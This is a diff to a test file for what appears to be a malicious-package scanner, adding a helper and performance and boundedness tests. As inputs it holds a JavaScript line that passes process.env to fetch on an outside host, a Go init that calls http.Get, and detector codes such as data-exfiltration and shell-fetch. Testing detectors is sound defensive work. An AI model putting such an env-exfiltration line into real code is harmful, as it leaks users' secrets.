@@ -74,6 +74,10 @@ function judged(files: Readonly<Record<string, string | Uint8Array>>): Finding[]
   return found;
 }
 
+function aboveInfo(found: readonly Finding[]): string[] {
+  return found.filter(({ level }) => level !== 'info').map(({ code }) => code);
+}
+
 // Some of the inputs take seconds: the tests show that they end.
 describe('checks', { timeout: 300_000 }, () => {
   it('return the same findings twice on random bytes', () => {
@@ -127,6 +131,13 @@ describe('checks', { timeout: 300_000 }, () => {
     );
   });
 
+  it.each([
+    ['.npmrc', `registry${' '.repeat(runs(1_000_000))}x`],
+    ['a.go', `func init() {\n${'\tinit(http.Get(x))\n'.repeat(100)}\n}\n`.repeat(runs(500))],
+  ])('are bounded on %s', (path, text) => {
+    expect(judged({ [path]: text })).toEqual(expect.any(Array));
+  });
+
   it('are bounded on deep nesting', () => {
     const depth = runs(runs(100_000));
     for (const [open, close] of [
@@ -147,7 +158,7 @@ describe('checks', { timeout: 300_000 }, () => {
     const found = judged({
       'a.js': `${'var a=1;'.repeat(1_250_000)}fetch('https://x.io', process.env)`,
     });
-    expect(found.map((f) => f.code)).not.toContain('source-unread');
+    expect(aboveInfo(found)).not.toContain('source-unread');
   });
 
   it('are bounded on thousands of files', () => {
@@ -237,7 +248,7 @@ describe('a packed bundle', { timeout: 600_000 }, () => {
     fc.assert(
       fc.property(share, fc.constantFrom(...Object.keys(HARMFUL)), (at, what) => {
         const found = judged({ 'a.js': bundle(4_000_000, at, HARMFUL[what]!) });
-        const levels = found.filter(({ level }) => level !== 'info').map(({ code }) => code);
+        const levels = aboveInfo(found);
         expect(levels).not.toContain('source-unread');
         expect(levels).toContainEqual(
           expect.stringMatching(/^(?:data-exfiltration|remote-code|shell-fetch|decode-execute)/),
@@ -247,9 +258,9 @@ describe('a packed bundle', { timeout: 600_000 }, () => {
     );
   });
 
-  it('without harm has no finding because of its size', () => {
+  it('without harm has only a remark about its size', () => {
     const found = judged({ 'a.js': bundle(4_000_000, 0, '') });
-    expect(found.filter(({ code }) => code.startsWith('source-'))).toEqual([]);
+    expect(aboveInfo(found).filter((code) => code.startsWith('source-'))).toEqual([]);
   });
 
   it('of any size is parsed up to a number of characters, and reports that', () => {
